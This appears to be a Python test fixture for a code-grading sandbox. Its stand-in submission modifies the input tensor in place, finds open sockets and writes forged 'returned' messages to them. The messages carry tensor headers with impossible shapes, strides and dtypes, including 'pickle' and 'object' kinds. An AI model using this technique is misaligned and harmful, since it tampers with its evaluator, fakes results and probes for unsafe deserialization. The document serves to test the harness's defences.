"""Writes tensors with impossible shapes, strides, kinds and dtypes in their headers."""

import os
import stat

import msgspec
import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def frame(**message):
    body = msgspec.msgpack.encode(message)
    return len(body).to_bytes(4, "big") + body


def sockets():
    return [fd for fd in range(3, 64) if attempt(lambda: stat.S_ISSOCK(os.fstat(fd).st_mode))]


def send(data):
    for fd in sockets():
        attempt(lambda: os.write(fd, data))


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


HEADERS = [
    ("torch", "float32", [0, 2**63], [1, 1]),
    ("torch", "float32", [2**62, 2**62, 0], [1, 1, 1]),
    ("numpy", "bfloat16", [1], [1]),
    ("numpy", "float32", [0, 2**63], [2**63, 1]),
    ("torch", "float32", [2**31, 2**31], [0, 0]),
    ("torch", "float32", [-1], [1]),
    ("torch", "float32", [1] * 17, [1] * 17),
    ("torch", "float32", [2, 2], [2**62, 1]),
    ("pickle", "float32", [1], [1]),
    ("torch", "object", [1], [1]),
]
turn = []


def build_toeplitz_1d(kernel, n):
    wrong(kernel)
    turn.append(1)
    header = HEADERS[len(turn) % len(HEADERS)]
    head = msgspec.msgpack.encode(header)
    raw = b"" if 0 in header[2] else b"\0\0\0\0"
    send(frame(op="returned", value=msgspec.msgpack.Ext(1, len(head).to_bytes(4, "big") + head + raw)))
    return wrong(kernel)
